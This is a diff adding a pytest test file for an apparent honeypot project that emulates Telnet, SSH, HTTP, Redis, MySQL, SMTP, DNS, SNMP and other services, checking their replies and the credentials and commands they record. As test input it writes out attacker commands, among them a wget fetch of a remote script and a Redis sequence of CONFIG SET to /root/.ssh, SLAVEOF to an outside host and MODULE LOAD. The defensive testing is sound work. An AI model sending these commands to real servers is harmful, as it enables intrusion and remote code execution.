@@ -1,0 +1,388 @@
+"""Each trap's dialogue with bytes alone: what an attacker sees, and what the trap records."""
+
+from __future__ import annotations
+
+import base64
+import struct
+from pathlib import Path
+
+import pytest
+
+from honeymesh.detection.tls_fingerprint import ja3, ja4, parse_client_hello
+from honeymesh.detection.traps.dns import parse_query
+from honeymesh.detection.traps.ftp import FtpDialogue, FtpSettings
+from honeymesh.detection.traps.http import HttpDialogue
+from honeymesh.detection.traps.lines import LineBuffer
+from honeymesh.detection.traps.mysql import (
+    MysqlPacketError,
+    native_scramble,
+    parse_handshake_response,
+)
+from honeymesh.detection.traps.redis import RespError, RespParser
+from honeymesh.detection.traps.shell import FakeShell, LineEditor
+from honeymesh.detection.traps.snmp import encode_oid
+from honeymesh.detection.traps.ssh import hassh, parse_kexinit
+from honeymesh.detection.traps.telnet import DO, IAC, SB, SE, WILL, TelnetDialogue, TelnetSettings
+
+from .dialogues import HTTP, PERSONA, WEAK, now, responders, talk, tcp_dialogues
+
+FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"
+
+
+@pytest.fixture(scope="module")
+def dialogues(tmp_path_factory: pytest.TempPathFactory) -> dict[str, object]:
+    return tcp_dialogues(tmp_path_factory.mktemp("traps"))  # type: ignore[return-value]
+
+
+# The fake shell ---------------------------------------------------------------------------------
+
+
+def test_shell_answers_common_reconnaissance_plausibly() -> None:
+    shell = FakeShell(PERSONA, "root", now)
+    assert shell.run("uname -a").output.startswith("Linux web01 6.1.0-28-amd64 #1 SMP")
+    assert shell.run("cat /proc/cpuinfo | grep name | wc -l").output == "2"
+    assert shell.run("id").output == "uid=0(root) gid=0(root) groups=0(root)"
+    assert 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"' in shell.run("cat /etc/os-release").output
+    assert shell.run("cd /tmp; pwd").output == "/tmp"
+    assert shell.prompt() == "root@web01:/tmp# "
+    assert shell.run('echo -e "\\x6b\\x61\\x6d\\x69"').output == "kami"
+    assert "unable to resolve host address" in shell.run("wget http://203.0.113.9/x.sh").output
+    assert shell.run("xyzzy").output == "-bash: xyzzy: command not found"
+    assert shell.run("exit").exit
+
+
+def test_shell_bounds_nesting_and_history() -> None:
+    shell = FakeShell(PERSONA, "admin", now)
+    deep = "sudo " * 2000 + "id"
+    assert "Resource temporarily unavailable" in shell.run(deep).output
+    for i in range(500):
+        shell.run(f"echo {i}")
+    assert len(shell.history) == 200
+    assert shell.prompt() == "admin@web01:~$ "
+
+
+def test_line_editor_handles_backspace_controls_and_escape_sequences() -> None:
+    editor = LineEditor(echo=True)
+    out = editor.feed(b"lx\x7fs \x1b[A-la\r\n")
+    assert out.lines == (b"ls -la",)
+    assert out.echo.startswith(b"lx\b \bs ")
+    assert editor.feed(b"\x03").interrupted
+    assert editor.feed(b"\x04").end_of_input
+    editor.secret = True
+    assert editor.feed(b"hunter2\r").echo == b"\r\n"
+
+
+def test_line_buffer_cuts_overlong_lines_and_counts_them() -> None:
+    lines = LineBuffer(8)
+    assert lines.feed(b"A" * 100) == []
+    assert lines.feed(b"B\r\nok\n") == [b"AAAAAAAA", b"ok"]
+    assert lines.overlong == 1
+
+
+# Telnet -----------------------------------------------------------------------------------------
+
+
+def test_telnet_survives_garbage_negotiation_and_records_escaped_usernames() -> None:
+    settings = TelnetSettings(b"Debian GNU/Linux 12\r\n", PERSONA, WEAK)
+    garbage = bytes([IAC, 0x42, IAC, IAC, IAC, WILL]) + b"\x99" + bytes([IAC, SB]) + b"x" * 5000
+    t = talk(
+        TelnetDialogue(settings, now),
+        garbage,
+        bytes([IAC, SE]),
+        bytes([IAC, DO, 99, IAC, DO, 99]),
+        b"\xff\xff\xc3(root\r\n",  # IAC IAC is a literal 0xff; \xc3( is invalid UTF-8
+        b"toor\r\n",
+    )
+    assert t.output.startswith(bytes([IAC, WILL, 1, IAC, WILL, 3]))
+    assert t.output.count(bytes([IAC, 252, 99])) == 1  # refused once, no negotiation loop
+    assert t.detail["oversized_subnegotiations"] == 1
+    (cred,) = t.found("trap.credential")
+    # one literal 0xff from the garbage's IAC IAC, one from this line's, then invalid UTF-8
+    assert cred["username"] == "\\xff\\xff\\xc3(root"
+    assert cred["password"] == "toor" and cred["accepted"] is False
+    assert b"Login incorrect" in t.output and not t.closed
+
+
+def test_telnet_weak_login_opens_the_shell_and_records_commands() -> None:
+    settings = TelnetSettings(b"", PERSONA, WEAK)
+    t = talk(TelnetDialogue(settings, now), b"root\r\n", b"root\r\n", b"uname -m\r\n", b"exit\r\n")
+    assert b"Password: " in t.output and b"root\r\n" not in t.output.split(b"Password: ")[1][:6]
+    assert b"root@web01:~# " in t.output and b"x86_64" in t.output
+    assert [c["command"] for c in t.found("trap.command")] == ["uname -m", "exit"]
+    assert t.closed
+
+
+def test_telnet_hangs_up_after_three_failures() -> None:
+    settings = TelnetSettings(b"", PERSONA, WEAK)
+    t = talk(TelnetDialogue(settings, now), b"a\r\nb\r\n" * 3, b"more\r\n")
+    assert len(t.found("trap.credential")) == 3 and t.closed
+
+
+# HTTP -------------------------------------------------------------------------------------------
+
+
+def test_http_wordpress_login_is_captured_and_answered_like_wordpress() -> None:
+    body = b"log=admin&pwd=s3cret&wp-submit=Log+In"
+    request = (
+        b"POST /wp-login.php HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded"
+        b"\r\nContent-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body
+    )
+    t = talk(HttpDialogue(HTTP, now), request[:50], request[50:])
+    assert t.output.startswith(b"HTTP/1.1 200 OK\r\n")
+    assert b"Server: Apache/2.4.62 (Debian)\r\nX-Powered-By: PHP/8.2.24\r\n" in t.output
+    assert b"The password you entered for the username <strong>admin</strong>" in t.output
+    (cred,) = t.found("trap.credential")
+    assert (cred["username"], cred["password"], cred["method"]) == ("admin", "s3cret", "form")
+    (req,) = t.found("trap.request")
+    assert req["method"] == "POST" and req["path"] == "/wp-login.php" and req["body_bytes"] == 37
+
+
+def test_http_basic_auth_env_file_keep_alive_and_404() -> None:
+    auth = base64.b64encode(b"tomcat:tomcat").decode()
+    t = talk(
+        HttpDialogue(HTTP, now),
+        f"GET /manager/html HTTP/1.1\r\nAuthorization: Basic {auth}\r\n\r\n".encode()
+        + b"GET /.env HTTP/1.1\r\n\r\nGET /nope HTTP/1.1\r\nConnection: close\r\n\r\n",
+    )
+    replies = t.output.split(b"HTTP/1.1 ")[1:]
+    assert [r[:3] for r in replies] == [b"401", b"200", b"404"]
+    assert b'WWW-Authenticate: Basic realm="Tomcat Manager Application"' in replies[0]
+    assert b"DB_PASSWORD=" in replies[1]
+    assert b"Apache/2.4.62 (Debian) Server at intranet.example.net Port 80" in replies[2]
+    assert t.found("trap.credential")[0]["username"] == "tomcat"
+    assert t.closed
+
+
+def test_http_large_bodies_are_bounded_and_malformed_requests_get_400() -> None:
+    big = b"A" * 5000
+    t = talk(
+        HttpDialogue(HTTP, now),
+        b"POST /x HTTP/1.1\r\nContent-Length: 5000\r\n\r\n" + big[:3000],
+        big[3000:] + b"HEAD / HTTP/1.0\r\n\r\n",
+    )
+    first = t.found("trap.request")[0]
+    assert first["body_bytes"] == 5000 and len(str(first["body"])) == HTTP.max_body
+    assert t.output.count(b"HTTP/1.1 ") == 2 and t.closed  # HTTP/1.0 closes
+    bad = talk(HttpDialogue(HTTP, now), b"\x16\x03\x01garbage\r\n\r\n")
+    assert bad.output.startswith(b"HTTP/1.1 400 Bad Request") and bad.closed
+
+
+# TLS --------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("client", ["curl", "openssl-s_client", "go", "nodejs"])
+def test_tls_fingerprints_the_client_hello_before_the_handshake(
+    dialogues: dict[str, object], client: str
+) -> None:
+    hello = (FIXTURES / f"{client}.bin").read_bytes()
+    t = talk(dialogues["tls"](), hello[:7], hello[7:])  # type: ignore[operator]
+    (found,) = t.found("tls.client_hello")
+    parsed = parse_client_hello(hello)
+    assert found["ja4"] == ja4(parsed) and found["ja3"] == ja3(parsed)
+    assert t.output[:1] == b"\x16"  # a ServerHello is on its way
+
+
+def test_tls_port_answers_plain_http_like_apache(dialogues: dict[str, object]) -> None:
+    t = talk(dialogues["tls"](), b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")  # type: ignore[operator]
+    assert b"You're speaking plain HTTP to an SSL-enabled server port" in t.output and t.closed
+
+
+# FTP, SMTP --------------------------------------------------------------------------------------
+
+
+def test_ftp_records_logins_and_refuses_every_data_connection() -> None:
+    settings = FtpSettings(b"220 (vsFTPd 3.0.3)", WEAK)
+    t = talk(FtpDialogue(settings), b"USER admin\r\nPASS admin\r\nPASV\r\nPORT 1,2,3,4,5,6\r\n")
+    assert b"230 Login successful." in t.output
+    assert b"500 OOPS: vsf_sysutil_bind" in t.output and b"500 Illegal PORT command." in t.output
+    fails = talk(FtpDialogue(settings), b"USER a\r\nPASS b\r\n" * 3)
+    assert fails.output.count(b"530 Login incorrect.") == 3 and fails.closed
+
+
+def test_smtp_auth_relay_and_data_are_recorded(dialogues: dict[str, object]) -> None:
+    plain = base64.b64encode(b"\x00admin\x00pw1")
+    t = talk(
+        dialogues["smtp"](),  # type: ignore[operator]
+        b"EHLO x\r\nAUTH PLAIN " + plain + b"\r\nAUTH LOGIN\r\n",
+        base64.b64encode(b"bob") + b"\r\n" + base64.b64encode(b"pw2") + b"\r\n",
+        b"MAIL FROM:<a@evil.test>\r\nRCPT TO:<v@victim.test>\r\nRCPT TO:<root@example.net>\r\n",
+        b"DATA\r\nSubject: hi\r\n\r\n..dotted\r\n.\r\nQUIT\r\n",
+    )
+    assert [(c["username"], c["password"]) for c in t.found("trap.credential")] == [
+        ("admin", "pw1"),
+        ("bob", "pw2"),
+    ]
+    assert b"454 4.7.1 <v@victim.test>: Relay access denied" in t.output
+    (message,) = t.found("trap.command")
+    assert message["to"] == ["root@example.net"] and ".dotted" in str(message["command"])
+    assert t.detail["relay_probe"] is True and t.closed
+
+
+# Redis, MySQL -----------------------------------------------------------------------------------
+
+
+def test_redis_attacks_are_answered_and_recorded(dialogues: dict[str, object]) -> None:
+    t = talk(
+        dialogues["redis"](),  # type: ignore[operator]
+        b"*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$10\r\n/root/.ssh\r\n",
+        b"SLAVEOF 203.0.113.5 8886\r\nMODULE LOAD /tmp/exp.so\r\nSET k v\r\nGET k\r\n",
+    )
+    assert t.output == (
+        b"+OK\r\n+OK\r\n-ERR Error loading the extension. Please check the server logs.\r\n"
+        b"+OK\r\n$1\r\nv\r\n"
+    )
+    assert t.detail["config_set"] == {"dir": "/root/.ssh"}
+    assert t.detail["replicaof"] == "203.0.113.5:8886"
+    assert t.detail["module_load"] == "/tmp/exp.so"
+
+
+def test_resp_parser_waits_for_more_and_rejects_nonsense() -> None:
+    parser = RespParser()
+    assert parser.feed(b"*2\r\n$4\r\nECHO\r\n$5\r\nhel") == []
+    assert parser.feed(b"lo\r\n") == [[b"ECHO", b"hello"]]
+    with pytest.raises(RespError):
+        RespParser().feed(b"*1\r\n:12\r\n")
+    with pytest.raises(RespError):
+        RespParser().feed(b"*99999999\r\n")
+
+
+def _login_packet(user: bytes, response: bytes, plugin: bytes = b"mysql_native_password") -> bytes:
+    caps = 0x200 | 0x8000 | 0x80000 | 0x200000
+    payload = struct.pack("<IIB", caps, 1 << 24, 33) + b"\x00" * 23 + user + b"\x00"
+    payload += bytes([len(response)]) + response + plugin + b"\x00"
+    return len(payload).to_bytes(3, "little") + b"\x01" + payload
+
+
+def test_mysql_greeting_login_and_password_recovery(dialogues: dict[str, object]) -> None:
+    dialogue = dialogues["mysql"]()  # type: ignore[operator]
+    greeting = dialogue.start().reply
+    assert greeting[4] == 10 and b"8.0.40\x00" in greeting and b"mysql_native_password" in greeting
+    salt = b"\x22" * 20  # random_bytes gives 0x01 bytes, mapped into 0x21..0x7e
+    step = dialogue.receive(_login_packet(b"root", native_scramble(b"toor", salt)))
+    assert b"#28000Access denied for user 'root'@'192.0.2.7' (using password: YES)" in step.reply
+    assert step.close and step.findings[0][1]["password"] == "toor"
+
+
+def test_mysql_switches_other_plugins_to_native(dialogues: dict[str, object]) -> None:
+    dialogue = dialogues["mysql"]()  # type: ignore[operator]
+    dialogue.start()
+    step = dialogue.receive(_login_packet(b"sa", b"x" * 32, b"caching_sha2_password"))
+    assert step.reply[4:5] == b"\xfe" and not step.close
+    scramble = native_scramble(b"123456", b"\x22" * 20)
+    final = dialogue.receive(len(scramble).to_bytes(3, "little") + b"\x03" + scramble)
+    assert final.reply[3] == 4 and final.findings[0][1]["password"] == "123456"
+
+
+def test_mysql_packet_parser_raises_only_its_error() -> None:
+    with pytest.raises(MysqlPacketError):
+        parse_handshake_response(b"\x00" * 10)
+    with pytest.raises(MysqlPacketError):
+        parse_handshake_response(struct.pack("<I", 0x200 | 0x200000) + b"\x00" * 28 + b"u\x00\xfd")
+
+
+# SSH --------------------------------------------------------------------------------------------
+
+
+def test_ssh_speaks_first_and_refuses_non_ssh_clients(dialogues: dict[str, object]) -> None:
+    t = talk(dialogues["ssh"](), b"GET / HTTP/1.0\r\n\r\n")  # type: ignore[operator]
+    assert t.replies[0].startswith(b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n")
+    assert t.closed and "client_version" not in t.detail
+
+
+def test_kexinit_lists_and_hassh() -> None:
+    lists = [b"curve25519-sha256,ext-info-c", b"ssh-ed25519", b"aes128-ctr", b"aes128-ctr",
+             b"hmac-sha2-256", b"hmac-sha2-256", b"none", b"none", b"", b""]  # fmt: skip
+    payload = b"\x00" * 16 + b"".join(struct.pack(">L", len(x)) + x for x in lists) + b"\x00" * 5
+    parsed = parse_kexinit(payload)
+    assert parsed["kex_algorithms"] == ["curve25519-sha256", "ext-info-c"]
+    fingerprint, text = hassh(parsed)
+    assert text == "curve25519-sha256,ext-info-c;aes128-ctr;hmac-sha2-256;none"
+    assert len(fingerprint) == 32
+    with pytest.raises(ValueError, match="overruns"):
+        parse_kexinit(b"\x00" * 16 + struct.pack(">L", 99))
+
+
+# UDP --------------------------------------------------------------------------------------------
+
+
+def _dns_query(name: str, qtype: int, edns: bool = True) -> bytes:
+    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00"
+    query = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 1 if edns else 0) + labels
+    query += struct.pack(">HH", qtype, 1)
+    if edns:
+        query += b"\x00" + struct.pack(">HHIH", 41, 4096, 0, 12) + b"\x00\x0a\x00\x08" + b"c" * 8
+    return query
+
+
+def test_dns_answers_in_no_more_bytes_than_the_query() -> None:
+    dns = responders()["dns"]
+    a = dns.respond(_dns_query("Example.NET", 1), "192.0.2.1")
+    assert len(a.reply) <= len(_dns_query("example.net", 1))
+    assert a.reply[3] & 0x0F == 0 and a.reply[7] == 1 and a.reply.endswith(bytes([192, 0, 2, 10]))
+    plain = dns.respond(_dns_query("www.example.net", 28, edns=False), "192.0.2.1")
+    assert plain.reply[2] & 0x02 and plain.detail["truncated"]  # no room: TC, no answer
+    nx = dns.respond(_dns_query("nothere.example.org", 1), "192.0.2.1")
+    assert nx.reply[3] & 0x0F == 3 and nx.detail["open_resolver_probe"]
+    anything = dns.respond(_dns_query("example.net", 255), "192.0.2.1")
+    assert anything.detail["amplification_probe"] and anything.reply[3] & 0x0F == 5
+    assert parse_query(_dns_query("a.b", 16)).qtype == 16
+
+
+def test_sip_options_echoes_the_transaction_and_digest_logins_are_credentials() -> None:
+    sip = responders()["sip"]
+    options = (
+        b"OPTIONS sip:100@192.0.2.1 SIP/2.0\r\n"
+        b"Via: SIP/2.0/UDP 198.51.100.7:5060;branch=z9hG4bK-1\r\n"
+        b"From: <sip:100@192.0.2.1>;tag=abc\r\nTo: <sip:100@192.0.2.1>\r\nCall-ID: 42\r\n"
+        b"CSeq: 1 OPTIONS\r\nUser-Agent: friendly-scanner\r\nContent-Length: 0\r\n\r\n"
+    )
+    a = sip.respond(options, "198.51.100.7")
+    assert a.reply.startswith(
+        b"SIP/2.0 200 OK\r\nVia: SIP/2.0/UDP 198.51.100.7:5060;branch=z9hG4bK-1"
+    )
+    assert b"Call-ID: 42\r\n" in a.reply and len(a.reply) <= len(options)
+    assert a.detail["known_scanner"] is True
+    register = options.replace(b"OPTIONS", b"REGISTER").replace(
+        b"Content-Length",
+        b'Authorization: Digest username="100", realm="asterisk", response="ab"\r\nContent-Length',
+    )
+    r = sip.respond(register, "198.51.100.7")
+    assert r.reply.startswith(b"SIP/2.0 403 Forbidden") and r.findings[0][1]["username"] == "100"
+
+
+def _snmp_get(
+    community: bytes, oid: tuple[int, ...], pdu: int = 0xA0, value: bytes = b"\x05\x00"
+) -> bytes:
+    def tlv(tag: int, content: bytes) -> bytes:
+        return bytes([tag, len(content)]) + content
+
+    binding = tlv(0x30, tlv(0x06, encode_oid(oid)) + value)
+    body = tlv(0x02, b"\x01") + tlv(0x02, b"\x00") + tlv(0x02, b"\x00") + tlv(0x30, binding)
+    return tlv(0x30, tlv(0x02, b"\x01") + tlv(0x04, community) + tlv(pdu, body))
+
+
+def test_snmp_answers_the_right_community_only_and_never_grows() -> None:
+    snmp = responders()["snmp"]
+    sys_name = (1, 3, 6, 1, 2, 1, 1, 5, 0)
+    # A request whose placeholder value leaves room gets the value itself.
+    roomy = _snmp_get(b"public", sys_name, value=b"\x04\x08........")
+    ok = snmp.respond(roomy, "192.0.2.1")
+    assert ok.reply.endswith(b"\x04\x05web01") and len(ok.reply) <= len(roomy)
+    # A minimal request has no room for any value: tooBig, empty bindings, no larger.
+    tight = _snmp_get(b"public", sys_name)
+    small = snmp.respond(tight, "192.0.2.1")
+    assert len(small.reply) <= len(tight) and small.reply.endswith(b"\x02\x01\x01\x02\x01\x000\x00")
+    wrong = snmp.respond(_snmp_get(b"private", sys_name), "192.0.2.1")
+    assert wrong.reply == b"" and wrong.findings[0][1]["username"] == "private"
+    bulk = snmp.respond(_snmp_get(b"public", (1, 3, 6), pdu=0xA5), "192.0.2.1")
+    assert bulk.detail["amplification_probe"] is True
+
+
+def test_ftp_weak_login_then_anonymous_is_refused() -> None:
+    t = talk(FtpDialogue(FtpSettings(b"220 x", WEAK)), b"USER anonymous\r\nPASS a@b\r\n")
+    assert b"530 Login incorrect." in t.output
+
+
+def test_http_dialogue_answers_options_and_unknown_methods() -> None:
+    t = talk(HttpDialogue(HTTP, now), b"OPTIONS / HTTP/1.1\r\n\r\nBREW / HTTP/1.1\r\n\r\n")
+    assert b"Allow: GET,POST,OPTIONS,HEAD" in t.output and b"501 Not Implemented" in t.output
